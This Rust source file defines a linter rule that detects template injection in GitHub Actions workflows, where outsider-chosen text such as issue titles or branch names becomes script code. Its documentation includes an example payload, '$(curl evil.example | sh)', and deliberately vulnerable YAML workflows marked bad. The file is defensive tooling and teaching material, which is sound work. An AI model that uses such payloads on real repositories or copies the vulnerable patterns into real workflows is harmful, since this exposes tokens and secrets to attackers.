use policy_core::document::Ref;
use policy_core::model::github::expression::{ExprId, Expression, contributions};
use policy_core::model::github::{Event, Events, Step};
use policy_core::rule::{Check, Confidence, Cx, Meta, Out, Pillar, Place, Platform, Reads, Rule, RuleFinding, Severity, Status};
use policy_core::unit::Site;

pub(crate) static RULE: Rule = Rule {
    id: "template-injection",
    meta: Meta {
        title: "text that outsiders choose becomes part of a script",
        pillar: Pillar::Access,
        platforms: &[Platform::Github],
        severity: Severity::High,
        confidence: Confidence::High,
        status: Status::Stable,
        since: "2026-11",
        fix: None,
        maps: &["CICD-SEC-4"],
        aliases: &["zizmor/template-injection", "actionlint/expression", "poutine/injection", "checkov/CKV_GHA_2"],
    },
    reads: Reads::OwnFile,
    checks: &[Check::Step(check)],
    docs: crate::docs(DOCS),
};

use Event::{
    CommitComment, Discussion, DiscussionComment, Gollum, IssueComment, Issues, PullRequest, PullRequestReview,
    PullRequestReviewComment, PullRequestTarget, Push, WorkflowCall, WorkflowRun,
};

const OF_PULL_REQUESTS: Events = Events::of(&[PullRequest, PullRequestReview, PullRequestReviewComment, PullRequestTarget]);
const OF_ISSUES: Events = Events::of(&[Issues, IssueComment]);
const OF_DISCUSSIONS: Events = Events::of(&[Discussion, DiscussionComment]);
const OF_COMMENTS: Events = Events::of(&[CommitComment, DiscussionComment, IssueComment, PullRequestReviewComment]);
const OF_REVIEWS: Events = Events::of(&[PullRequestReview, PullRequestReviewComment]);
const OF_RUNS: Events = Events::of(&[WorkflowRun]);
const OF_PUSHES: Events = Events::of(&[Push]);
const OF_WIKI: Events = Events::of(&[Gollum]);

/// Events that outsiders can cause and that run with the repository's own token and secrets.
const PRIVILEGED: Events =
    Events::of(&[CommitComment, Discussion, DiscussionComment, Gollum, IssueComment, Issues, PullRequestTarget, WorkflowRun]);

/// Free text that outsiders choose, and the events whose payload holds it. In all other events it is empty.
const CONTEXTS: &[(&str, Events)] = &[
    ("github.head_ref", OF_PULL_REQUESTS),
    ("github.event.issue.title", OF_ISSUES),
    ("github.event.issue.body", OF_ISSUES),
    ("github.event.pull_request.title", OF_PULL_REQUESTS),
    ("github.event.pull_request.body", OF_PULL_REQUESTS),
    ("github.event.pull_request.head.ref", OF_PULL_REQUESTS),
    ("github.event.pull_request.head.label", OF_PULL_REQUESTS),
    ("github.event.pull_request.head.repo.default_branch", OF_PULL_REQUESTS),
    ("github.event.pull_request.head.repo.description", OF_PULL_REQUESTS),
    ("github.event.pull_request.head.repo.homepage", OF_PULL_REQUESTS),
    ("github.event.comment.body", OF_COMMENTS),
    ("github.event.review.body", OF_REVIEWS),
    ("github.event.review_comment.body", OF_REVIEWS),
    ("github.event.discussion.title", OF_DISCUSSIONS),
    ("github.event.discussion.body", OF_DISCUSSIONS),
    ("github.event.pages.*.page_name", OF_WIKI),
    ("github.event.commits.*.message", OF_PUSHES),
    ("github.event.commits.*.author.email", OF_PUSHES),
    ("github.event.commits.*.author.name", OF_PUSHES),
    ("github.event.head_commit.message", OF_PUSHES),
    ("github.event.head_commit.author.email", OF_PUSHES),
    ("github.event.head_commit.author.name", OF_PUSHES),
    ("github.event.workflow_run.display_title", OF_RUNS),
    ("github.event.workflow_run.head_branch", OF_RUNS),
    ("github.event.workflow_run.head_commit.message", OF_RUNS),
    ("github.event.workflow_run.head_commit.author.email", OF_RUNS),
    ("github.event.workflow_run.head_commit.author.name", OF_RUNS),
    ("github.event.workflow_run.head_repository.description", OF_RUNS),
    ("github.event.workflow_run.pull_requests.*.head.ref", OF_RUNS),
];

/// Inputs of actions that the action runs as code, as far as they are known: owner/repository and input.
const CODE_INPUTS: &[(&str, &str)] = &[
    ("actions/github-script", "script"),
    ("amadevus/pwsh-script", "script"),
    ("appleboy/ssh-action", "script"),
    ("azure/cli", "inlineScript"),
    ("azure/powershell", "inlineScript"),
    ("cardinalby/js-eval-action", "expression"),
    ("jannekem/run-python-script-action", "script"),
    ("mikefarah/yq", "cmd"),
];

fn check<'u>(cx: &Cx<'u>, step: &'u Step<'u>, out: &mut Out<'u>) {
    if let Some(script) = step.run() {
        check_script(cx, step, script, "this script", out);
    }
    for (action, input) in CODE_INPUTS {
        if step.runs_action(action)
            && let Some(script) = step.input(input)
        {
            check_script(cx, step, script, "code that this action runs", out);
        }
    }
}

fn check_script<'u>(cx: &Cx<'u>, step: &'u Step<'u>, script: Ref<'u>, what: &str, out: &mut Out<'u>) {
    for site in cx.unit.sites_of(script) {
        let Ok(expression) = &site.expression else { continue };
        for contribution in contributions(expression) {
            let Some(path) = expression.path(contribution.id).filter(|path| path.is_prefix_of("github.*.*.*.*.*.*")) else {
                continue;
            };
            let chosen = CONTEXTS.iter().filter(|(pattern, _)| match contribution.serialised {
                true => path.is_prefix_of(pattern),
                false => path.matches(pattern),
            });
            let events: Vec<Events> = chosen.map(|(_, events)| *events).collect();
            if let Some(reach) = reach(cx, step, &events) {
                out.found(finding(site, expression, contribution.id, &path.to_string(), what, &reach));
            }
        }
    }
}

struct Reach {
    severity: Severity,
    confidence: Confidence,
    who: String,
}

// How an outsider gets here, by the events that start the workflow; none if none of them fills the context.
fn reach(cx: &Cx<'_>, step: &Step<'_>, contexts: &[Events]) -> Option<Reach> {
    if contexts.is_empty() {
        return None;
    }
    if cx.unit.job_of(step).is_none() {
        let who = "whoever causes the event of a workflow that uses this action chooses it".to_owned();
        return Some(Reach { severity: Severity::High, confidence: Confidence::Medium, who });
    }
    let started_by = cx.unit.events();
    let fills = |by: Events| by.iter().find(|event| contexts.iter().any(|context| context.has(*event)));
    if let Some(event) = fills(started_by.and(PRIVILEGED)) {
        let who = format!("anyone who can cause `{}` chooses it", event.name());
        return Some(Reach { severity: Severity::High, confidence: Confidence::High, who });
    }
    if started_by.has(WorkflowCall) {
        let who = "whoever causes the event of a workflow that calls this one chooses it".to_owned();
        return Some(Reach { severity: Severity::High, confidence: Confidence::Medium, who });
    }
    let event = fills(started_by)?;
    let who = match event {
        Push => "whoever gets a commit merged chooses it".to_owned(),
        _ => format!("whoever opens a pull request chooses it (from a fork, `{}` runs without secrets)", event.name()),
    };
    Some(Reach { severity: Severity::Medium, confidence: Confidence::High, who })
}

fn finding<'u>(site: &Site<'u>, expression: &Expression<'u>, id: ExprId, path: &str, what: &str, reach: &Reach) -> RuleFinding<'u> {
    let span = expression.span(id);
    let finding = RuleFinding::new(
        Place::text(site.scalar, site.start + span.start..site.start + span.end, "pasted in before the script is read"),
        format!("`{path}` becomes part of {what}, and {}", reach.who),
        "give it to the step through `env:` and use the variable: `\"$NAME\"` in a shell, `process.env.NAME` in JavaScript",
        path,
    );
    finding.rated(reach.severity, reach.confidence).attribute("context", path)
}

const DOCS: &str = r#"
`${{ … }}` is replaced before the shell sees the script, so the text of an issue, a branch name or a commit message becomes code.
A title such as `$(curl evil.example | sh)` then runs on your runner with the job's token and secrets.

**Mend it:** hand the value over as an environment variable, and use the variable in quotes. A shell does not read the value of a
variable as code.

**How bad:** high where outsiders can cause an event that runs with your token and secrets (`issues`, `issue_comment`,
`pull_request_target`, `workflow_run` and the like), and, with medium confidence, in called workflows and composite actions, whose
events are not known. Medium for `pull_request`, which runs without secrets for forks, and for commit messages of `push`.
A value that none of the workflow's events fills is not reported.

**It does not see:** values that pass through outputs, variables or inputs before they reach a script; conditions (`if:`) that
keep the step from running; scripts that read a variable as code again with `eval`.

```yaml bad
on: issues
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: |
          echo "new issue"
          echo "${{ github.event.issue.title }}" # <-
      - run: echo ${{ format('{0}', github.event.issue['body']) }} # <-
```

```yaml bad
on: [pull_request_target, push]
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea
        with:
          script: >-
            console.log("${{ github.head_ref || github.ref_name }}") // # <-
            console.log(`${{ toJSON(github.event.commits) }}`) // # <-
```

```yaml bad
# file: action.yml
name: greets
description: a composite action
runs:
  using: composite
  steps:
    - run: echo ${{ github.event.comment.body }} # <-
      shell: bash
```

```yaml good
on: issues
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - env:
          TITLE: ${{ github.event.issue.title }}
        run: echo "$TITLE"
```

```yaml good
on: issue_comment
jobs:
  chatops:
    runs-on: ubuntu-latest
    steps:
      - run: echo ${{ contains(github.event.comment.body, '/deploy') }} ${{ github.event.comment.body == 'x' && 'a' || 'b' }}
      - run: echo ${{ github.event.issue.number }} ${{ github.event.issue.user.login }} ${{ github.event.comment.id }}
```

```yaml good
on:
  push:
    branches: [main]
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: echo "${{ github.event.issue.title }} is empty here, and so is ${{ github.head_ref }}"
      - name: ${{ github.event.head_commit.message }}
        run: "true"
```
"#;
